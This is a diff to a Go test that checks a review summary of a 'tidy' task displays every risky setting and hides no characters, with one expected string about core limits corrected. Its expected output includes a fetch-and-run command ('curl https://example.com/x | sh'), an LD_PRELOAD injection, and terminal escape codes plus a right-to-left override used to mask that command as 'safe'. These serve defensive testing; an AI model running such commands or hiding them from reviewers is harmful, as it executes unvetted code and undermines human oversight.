@@ -34,7 +34,7 @@ func TestSubject_ShowsAllThatIsBoundAndHidesNoCharacter(t *testing.T) {
 	for _, part := range []string{
 		"deserves a look: approves itself if nobody answers · network in tidy · changes what is loaded (LD_PRELOAD) in tidy",
 		"runs fetched code (curl https://example.com/x | sh", "hidden characters in tidy.sh",
-		"tidy  Tidy up", "run       sh tidy.sh 'a b'", "env       LD_PRELOAD=./x.so", "network   allowed", "at most 5m, at most 1GiB, on cores",
+		"tidy  Tidy up", "run       sh tidy.sh 'a b'", "env       LD_PRELOAD=./x.so", "network   allowed", "at most 5m, at most 1GiB, no limit on cores",
 		"the run goes on without it, tried again 2 times before", "with no answer: approve",
 		"tidy.sh  a file, 501 lines", "  500 │ x", "  501 │ curl https://example.com/x | sh<U+001B>[2K<U+001B>]0;t<U+0007><U+000D>safe <U+202E>",
 	} {
